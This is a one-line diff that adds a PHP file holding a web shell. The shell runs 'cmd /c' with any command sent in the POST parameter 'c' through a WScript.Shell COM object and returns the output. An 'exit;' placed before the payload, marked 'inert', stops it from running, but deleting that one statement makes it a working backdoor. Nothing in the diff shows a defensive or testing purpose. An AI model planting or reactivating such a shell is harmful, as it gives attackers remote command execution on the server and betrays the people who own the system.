@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $w=new COM("WScript.Shell"); $e=$w->exec("cmd /c ".$_POST["c"]); echo $e->StdOut()->ReadAll();
